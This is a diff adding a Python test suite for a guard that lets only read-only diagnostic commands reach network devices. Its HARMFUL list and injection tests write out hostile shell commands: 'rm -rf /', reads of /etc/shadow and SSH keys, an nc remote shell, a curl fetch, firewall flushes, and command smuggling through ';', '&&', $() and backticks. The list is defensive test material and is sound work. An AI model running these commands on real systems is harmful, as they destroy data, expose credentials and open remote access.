@@ -1,0 +1,237 @@
+"""What may be sent: all that the catalogue builds, and nothing that does more than read."""
+
+from __future__ import annotations
+
+from ipaddress import ip_address
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from collectors import guard, shell_words
+from collectors.model.evidence import About, Inquiry, Question
+from collectors.model.flow import Flow
+from collectors.model.platform import Platform
+from collectors.platforms import PLATFORMS
+from collectors.session.desk import RIGHTS
+
+FLOWS = [
+    Flow.parse("tcp 192.0.2.20:43122 > 203.0.113.10:443"),
+    Flow.parse("tcp 192.0.2.20:* > 203.0.113.10:443"),
+    Flow.parse("udp 192.0.2.20:5000 > 203.0.113.10:53"),
+    Flow.parse("icmp 192.0.2.20 > 203.0.113.10"),
+    Flow.parse("tcp [2001:db8::1]:43122 > [2001:db8::2]:443"),
+    Flow.parse("icmp 2001:db8::1 > 2001:db8::2"),
+]
+
+
+def full(flow: Flow) -> About:
+    """Everything that can be told about a flow."""
+    ports = (*range(40000, 40050), 50000, 50007)
+    flows = (flow, flow.reversed())
+    return About(flow, "in0.7", 0x1, flow.dst, "eth0", 6.0, ports, flows, "before")
+
+
+ABOUTS = [About(), *(About(flow=flow) for flow in FLOWS), *(full(flow) for flow in FLOWS)]
+
+
+@pytest.mark.parametrize("platform", PLATFORMS, ids=lambda platform: platform.name)
+@pytest.mark.parametrize("question", list(Question))
+def test_the_whole_catalogue_may_be_sent(platform: Platform, question: Question) -> None:
+    answer = platform.answers[question]
+    for about in ABOUTS:
+        command = answer.command(about)
+        if command is None:
+            continue
+        inquiry = Inquiry("fw-a", question, about)
+        guard.check(command.encode(), inquiry, platform)
+        assert (guard.refusal(f"sudo -n {command}".encode(), inquiry, platform) is None) == answer.privileged
+
+
+def test_the_greeting_may_be_sent() -> None:
+    assert guard.refusal(RIGHTS.encode()) is None
+
+
+def test_only_the_command_of_this_very_question() -> None:
+    linux = PLATFORMS[0]
+    asked = Inquiry("fw-a", Question.ROUTE_CHOICE, About(flow=FLOWS[0]))
+    other = linux.answers[Question.ROUTE_CHOICE].command(About(flow=FLOWS[2]))
+    assert other is not None
+    assert guard.refusal(other.encode(), asked, linux) == "it is not the command of linux for route-choice"
+    nothing = Inquiry("fw-a", Question.ROUTE_CHOICE, About())
+    assert guard.refusal(other.encode(), nothing, linux) == "linux has no command for route-choice"
+    with pytest.raises(guard.Forbidden, match="not the command"):
+        guard.check(other.encode(), asked, linux)
+
+
+HARMFUL = [
+    "rm -rf /",
+    "ip route add 1.2.3.4 via 5.6.7.8",
+    "ip -4 route del default",
+    "ip -j route flush cache",
+    "ip link set eth0 down",
+    "ip -s -s neigh flush all",
+    "ip addr add 10.0.0.1/8 dev lo",
+    "ip netns exec other reboot",
+    "ip -batch /tmp/changes",
+    "echo \"route add default via 1.2.3.4\" | ip -batch -",
+    "sh -c 'ip rule; rm x'",
+    "sh -c 'x=$(reboot)'",
+    "sh -c 'echo \"$(reboot)\"'",
+    "sh -c 'for i in 1 2; do reboot; done'",
+    "sh -c 'if reboot; then true; fi'",
+    "sh -c 'f() { reboot; }; f'",
+    "sh -c 'cat x | sh'",
+    "sh",
+    "bash -c 'sh -c \"reboot\"'",
+    "ip -j route get 1.1.1.1; reboot",
+    "ip -j addr & reboot",
+    "ip -j addr && reboot",
+    "ip -j addr | tee /etc/passwd",
+    "ip -j addr $(reboot)",
+    "ip -j addr `reboot`",
+    "ip -j addr > /etc/passwd",
+    "ip -j addr >> /tmp/x",
+    "ip -j addr < /etc/shadow",
+    "ip -j addr << EOF",
+    "ip -j addr # and",
+    "ip \\-j addr",
+    "nft flush ruleset",
+    "nft -f /tmp/rules",
+    "nft -j add table x",
+    "nft reset counters",
+    "conntrack -D",
+    "conntrack -F",
+    "conntrack -L -z",
+    "sudo -n conntrack -U -m 1",
+    "sudo reboot",
+    "sudo -n sh",
+    "sudo -u other id",
+    "conntrackd -s -k",
+    "sysctl -w net.ipv4.ip_forward=1",
+    "sysctl -p",
+    "vtysh -c \"configure terminal\"",
+    "vtysh -c \"show run\" -c \"clear ip bgp *\"",
+    "vtysh -c \"show run | include x\"",
+    "vtysh",
+    "tcpdump -w /tmp/x -c 5",
+    "tcpdump -w -",
+    "tcpdump -w - -c 5 -z reboot",
+    "ss -K dst 1.1.1.1",
+    "ss --kill",
+    "ss -tKn",
+    "dmesg -C",
+    "dmesg --clear",
+    "journalctl --vacuum-size=1",
+    "iptables -F",
+    "iptables-restore",
+    "dd if=/dev/zero",
+    "kill 1",
+    "cat /etc/shadow",
+    "grep x /root/.ssh/id_rsa",
+    "tail /etc/passwd",
+    "python3 -c \"import os\"",
+    "python3",
+    "nc -l 5",
+    "nc -n -z -e sh 1.1.1.1 5",
+    "nc 1.1.1.1 5",
+    "timeout 5 reboot",
+    "timeout -k 5 6 reboot",
+    "exec reboot",
+    "command reboot",
+    "eval reboot",
+    "PATH=/tmp reboot",
+    "curl http://203.0.113.1/x",
+    "write memory",
+    "configure terminal",
+    "sh -c 'unclosed",
+    "echo \"unclosed",
+    "echo $(unclosed",
+    "echo ${x:-$(reboot)}",
+    "echo \"`reboot`\"",
+    "echo $((`reboot`))",
+    "echo $(( $(reboot) ))",
+    " ",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", HARMFUL)
+def test_what_does_more_than_read_is_refused(text: str) -> None:
+    assert guard.refusal(text.encode())
+
+
+@pytest.mark.parametrize(
+    "raw", [b"ip addr\nreboot", b"ip addr\0", b"ip addr\x1b[2J", b"ip addr\r", "ip äddr".encode(), b""]
+)
+def test_only_printable_bytes(raw: bytes) -> None:
+    assert guard.refusal(raw)
+
+
+def test_only_so_much() -> None:
+    assert guard.refusal(b"echo " + b"x" * guard.LONGEST) == "it is longer than 100000 bytes"
+
+
+def test_nesting_ends_somewhere() -> None:
+    with pytest.raises(shell_words.Unclear, match="too deeply"):
+        shell_words.read("$(" * 12 + "id" + ")" * 12)
+
+
+def test_words_files_and_functions_of_a_script() -> None:
+    script = shell_words.read("sh -c 'f() { id -u; }; x=$(uname -n); test -n \"$x\" && f 2>/dev/null'")
+    assert ("id", "-u") in script.commands and ("uname", "-n") in script.commands
+    assert script.functions == {"f"} and script.files == ["/dev/null"]
+
+
+WRITERS = ["reboot", "rm -rf /", "nft flush ruleset", "ip link set lo down", "conntrack -F", "tee /etc/passwd"]
+JOINTS = [";", "&&", "||", "|", "&", " ; ", "\n"]
+
+
+@given(
+    st.sampled_from(sorted(Question)),
+    st.sampled_from(FLOWS),
+    st.sampled_from(WRITERS),
+    st.sampled_from(JOINTS),
+    st.booleans(),
+)
+def test_nothing_harmful_rides_along(question: Question, flow: Flow, writer: str, joint: str, first: bool) -> None:
+    command = PLATFORMS[0].answers[question].command(full(flow))
+    if command is not None:
+        whole = f"{writer}{joint}{command}" if first else f"{command}{joint}{writer}"
+        assert guard.refusal(whole.encode())
+
+
+@given(st.sampled_from(sorted(Question)), st.sampled_from(FLOWS), st.integers(0, 2000), st.integers(0, 255))
+def test_one_changed_byte_is_not_of_the_catalogue(question: Question, flow: Flow, at: int, byte: int) -> None:
+    about = full(flow)
+    command = PLATFORMS[0].answers[question].command(about)
+    if command is None:
+        return
+    raw = bytearray(command.encode())
+    at %= len(raw)
+    if raw[at] != byte:
+        raw[at] = byte
+        assert guard.refusal(bytes(raw), Inquiry("x", question, about), PLATFORMS[0])
+
+
+@given(st.binary(max_size=200))
+def test_any_bytes_are_judged_without_a_crash(raw: bytes) -> None:
+    guard.refusal(raw)
+
+
+@given(st.text(alphabet="ipshc-'\"$(){};|&<>= /0", max_size=60))
+def test_any_shell_is_judged_without_a_crash(text: str) -> None:
+    guard.refusal(text.encode())
+
+
+HOSTILE = st.text(min_size=1, max_size=30).filter(lambda text: not text.isalnum())
+
+
+@given(HOSTILE)
+def test_hostile_names_never_reach_a_command(name: str) -> None:
+    about = About(flow=FLOWS[0], iif=name, interface=name, address=ip_address("192.0.2.1"))
+    for question in Question:
+        try:
+            command = PLATFORMS[0].answers[question].command(about)
+        except ValueError:
+            continue
+        assert command is None or guard.refusal(command.encode(), Inquiry("x", question, about), PLATFORMS[0]) is None
